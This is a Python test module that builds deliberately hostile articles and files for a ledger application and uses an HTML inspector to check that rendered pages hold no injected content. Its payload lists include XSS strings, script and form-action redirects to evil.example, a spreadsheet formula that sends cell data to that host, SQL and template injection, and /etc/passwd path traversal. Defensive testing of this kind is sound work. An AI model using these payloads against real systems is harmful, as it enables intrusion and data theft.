"""A ledger of articles by people who mean no good, hand-made and read from files, and what no page may hold."""

from __future__ import annotations

import json
import re
from collections.abc import Iterable, Iterator
from html.parser import HTMLParser
from pathlib import Path
from typing import Any, Final
from urllib.parse import urlsplit

from detente.ledger import Ledger
from detente.records import Commitment, Condition, Event, Measure, Meeting, Record, Statement
from detente.sources import Document

ATTACKS: Final = {
    "script": "<script>alert(1)</script>",
    "image": '"><img src=x onerror=alert(2)>',
    "attribute": "' onmouseover='alert(3)' autofocus onfocus=alert(4) style=x:y x=\"",
    "closing": "</bdi></a></p></main></body></html><script src=//evil.example/x.js></script>",
    "frame": '<iframe srcdoc="&lt;script&gt;"></iframe><style>*{display:none}</style><base href=//evil.example>',
    "comment": "<!-- --!> <![CDATA[ <svg/onload=alert(5)> <math><mtext></form><form action=//evil.example>",
    "broken": '<a href="javascript:alert(6)" <b <i>< <scr<script>ipt>',
    "entity": "&lt;script&gt; &#60;script&#62; &amp;lt; &NotAnEntity; &#0; &#xD800;",
    "template": "T{{7*7}}T {% for x in y %} {# note #} ${7*7} #{7*7} <%= 7*7 %> {{ config }}",
    "formula": '=HYPERLINK("http://evil.example/?"&A1;"x") +1 -1 @SUM(1)',
    "bidi": "\u202edlrow\u202c \u2066inner \u200f\u061c\u2067never closed",
    "control": "be\x07ll nu\x00ll es\x1b[31mc ne\x85l \x7f \ufffe \u2028 \u2029 \ufeff",
    "arabic": "تعهدت الصين «للولايات المتحدة» بالتوقيع",
    "zalgo": "Z" + "\u0334\u0352\u0301" * 300,
    "long": "w" * 20_000,
    "path": "../../etc/passwd/./?a=1&b=2#c;d\\e%zz",
    "address": "javascript:alert(7)",
    "sql": "'; DROP TABLE entries; -- %_\"",
    "emoji": "🇺🇸🏴\U000e0067\U000e007f👩‍👩‍👧",
    "blank": "\u00a0\u3000\u200b",
}
"""What stands in texts, titles, names, publishers and fields, by what it tries."""

URLS: Final = (
    "javascript:alert(8)", "JaVaScRiPt:alert(9)", "data:text/html,<script>alert(1)</script>", "//evil.example/x",
    'https://evil.example/"onclick="alert(1)', "vbscript:x", " javascript:alert(1)", "java\tscript:alert(1)",
)  # fmt: skip


def hostile_ledger(place: Path) -> Path:
    """Make the ledger: an article for each attack, with a record of each kind, and one with a line of ten megabytes."""
    with Ledger(place) as ledger:
        for number, (name, attack) in enumerate(ATTACKS.items()):
            document, found = _article(name, attack, URLS[number % len(URLS)])
            added = ledger.add(document, found, reader=attack)
            assert (added.records, added.refused) == (len(found), 0), name
        document, found = _endless()
        assert ledger.add(document, found).records == 2
        for entry in ledger.page(most=8):
            ledger.confirm(entry.id, by=ATTACKS["script"], why=ATTACKS["image"])
        promise = ledger.entries("commitment")[0]
        ledger.correct(promise.id, "undertaking", ATTACKS["closing"], by=ATTACKS["bidi"], why=ATTACKS["control"])
    return place


def write_files(folder: Path) -> Path:
    """Write articles as `detente read` takes them: pages, lines of JSON, front matter, and what only looks like it."""
    folder.mkdir()
    promise = "China promised the United States to sign the memorandum on missiles by December 1991."
    ban = "The United States banned the sale of computers to China on 3 March 1992, officials said."
    for name, attack in ATTACKS.items():
        (folder / f"{name}.txt").write_text(f"{attack}\n\n{promise} {attack} {ban}\n", "utf-8")
    deep = "<div><b>" * 50_000 + f"<p>{promise}</p>" + "</b></div>" * 20_000
    (folder / "deep.html").write_text(f"<html><title>{ATTACKS['entity']}</title><body>{deep}", "utf-8")
    lines = [
        {
            "text": f"{promise} {ban}",
            "title": "half \ud800 of one",
            "publisher": "\udfff",
            "url": url,
            "id": f"x\ud800{n}",
        }
        for n, url in enumerate(URLS)
    ]
    (folder / "lines.jsonl").write_text("".join(json.dumps(line) + "\n" for line in lines), "utf-8")
    front = '---\ntitle: "\\uD800 {{7*7}} \\0"\npublisher: "<b>\\e"\nurl: "javascript:alert(1)"\n---\n'
    (folder / "front.md").write_text(f"{front}{promise}\n\n{ban}\n", "utf-8")
    (folder / "nul\u202e name'\"<b>.txt").write_bytes(f"{promise}\x00{ban}".encode() + b"\xff\xfe\xed\xa0\x80")
    return folder


def _article(name: str, attack: str, url: str) -> tuple[Document, list[Record]]:
    said = {
        "promise": f"China {name} promised {attack} to the United States by the end of 1991.",
        "ban": f"The United States {name} banned the sale of {attack} to China.",
        "act": f"Peru {attack} {name} criticised Ecuador.",
        "talks": f"{attack} met in {attack} for {name}.",
        "words": f"“{attack} {name}”, {attack} said.",
    }
    text = "\n\n".join(said.values())
    at = {key: _placed(text, sentence, name) for key, sentence in said.items()}
    condition = Condition(by=attack, action=f"first {attack}")
    records: list[Record] = [
        Commitment(
            **at["promise"], by="CHN", to="USA", undertaking=f"give {attack}", conditions=(condition,), deadline="1991"
        ),
        Measure(
            **at["ban"], by="USA", on="CHN", action=f"sale of {attack}", status="in_force", reason=attack, date="1992"
        ),
        Event(**at["act"], source="PER", target="ECU", type="ACCUSE", date="1992-02"),
        Event(**at["act"], source=attack, target="USA", type="ACCUSE", date="1992-03"),
        Meeting(**at["talks"], participants=("CHN", "USA", attack), persons=(attack,), place=attack, date="1992-04-05"),
        Statement(**at["words"], speaker=attack, by="PER", quote=f"{attack} {name}", about=attack),
    ]
    source = {"title": attack, "publisher": attack, "url": url, "path": attack}
    return Document(name=f"{name} {attack}", text=text, published="1992-05", dating="given", **source), records


def _endless() -> tuple[Document, list[Record]]:
    """Return a text of one line of ten megabytes, with a record at each end."""
    first, last = "China warned Taiwan. ", f"Taiwan answered {'x' * 200_000}."
    text = first + "word " * 2_000_000 + last
    records = [
        Event(**_placed(text, first.strip(), "endless"), source="CHN", target="TWN", type="THREATEN"),
        Event(**_placed(text, last, "endless"), source="TWN", target="CHN", type="REJECT"),
    ]
    return Document(name="endless", text=text, published="1992", dating="given"), records


def _placed(text: str, sentence: str, name: str) -> dict[str, Any]:
    start = text.index(sentence)
    return {
        "doc": name, "evidence": sentence, "start": start, "end": start + len(sentence), "confidence": 0.97,
    }  # fmt: skip


# ---------------------------------------------------------------------------------------------- what no page may hold

_CONTROL: Final = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\ud800-\udfff\ufffe\uffff]")
_TURNING: Final = re.compile("[\u202a-\u202e\u2066-\u2069]")
_FORBIDDEN: Final = frozenset(
    {"iframe", "frame", "object", "embed", "base", "style", "applet", "video", "audio", "math", "foreignobject"}
)
_ADDRESSES: Final = frozenset(
    {"href", "src", "action", "formaction", "xlink:href", "hx-get", "hx-post", "data", "poster"}
)
_VOID: Final = frozenset({"meta", "link", "input", "br", "hr", "img", "wbr", "col", "source", "path", "rect"})


class Inspection(HTMLParser):
    """Reads a page and notes its links and ids, and what must not be there."""

    def __init__(self, page: str) -> None:
        super().__init__(convert_charrefs=True)
        self.links: list[str] = []
        self.faults: list[str] = []
        self._open: list[tuple[str, bool]] = []
        self.faults += [f"control character {found[0]!r}" for found in _CONTROL.finditer(page)][:3]
        if "T49T" in page:
            self.faults.append("a template in a text was carried out")
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Note a tag, its addresses, and whether it may stand there."""
        if tag in _FORBIDDEN:
            self.faults.append(f"<{tag}>")
        if tag == "meta" and dict(attrs).get("http-equiv"):
            self.faults.append("<meta http-equiv>")
        if tag == "script" and not (dict(attrs).get("src") or "").startswith("/static/"):
            self.faults.append(f"<script> of {dict(attrs).get('src')!r}")
        if tag == "img" and not (dict(attrs).get("src") or "").startswith("/static/"):
            self.faults.append(f"<img> of {dict(attrs).get('src')!r}")
        for name, value in attrs:
            self.faults += _attribute_faults(name, value or "")
        if tag == "a":
            self.links += [value for name, value in attrs if name == "href" and value]
        if tag not in _VOID:
            self._open.append((tag, any(name == "dir" for name, _ in attrs) or tag in ("bdi", "title", "textarea")))

    def handle_endtag(self, tag: str) -> None:
        """Close a tag, and what was left open in it."""
        names = [name for name, _ in self._open]
        if tag in names:
            del self._open[len(names) - 1 - names[::-1].index(tag) :]

    def handle_data(self, data: str) -> None:
        """Note scripts within the page, and writing directions that reach beyond their element."""
        within = self._open[-1][0] if self._open else ""
        if within in ("script", "style") and data.strip():
            self.faults.append(f"text in <{within}>")
        if _TURNING.search(data) and not any(kept for _, kept in self._open):
            self.faults.append(f"a turned direction is not kept to its element: {data.strip()[:60]!r} in <{within}>")


def _attribute_faults(name: str, value: str) -> Iterator[str]:
    if name.startswith(("on", "hx-on")) or name in ("style", "srcdoc", "hx-vals", "hx-vars"):
        yield f"attribute {name}"
    if name in _ADDRESSES and not safe_address(value):
        yield f"{name}={value[:80]!r}"


def safe_address(address: str) -> bool:
    """Tell whether an address leads to a page of ours, or to one of the web."""
    if re.match(r"[\s\x00-\x20]", address) or re.search(r"[\t\r\n]", address):
        return False
    parts = urlsplit(address)
    return parts.scheme in ("http", "https") or (not parts.scheme and not parts.netloc)


def of_ours(addresses: Iterable[str]) -> set[str]:
    """Return the addresses on this server, without the place on the page."""
    found = (urlsplit(address) for address in addresses if safe_address(address))
    return {parts._replace(fragment="").geturl() for parts in found if not parts.netloc and parts.path.startswith("/")}
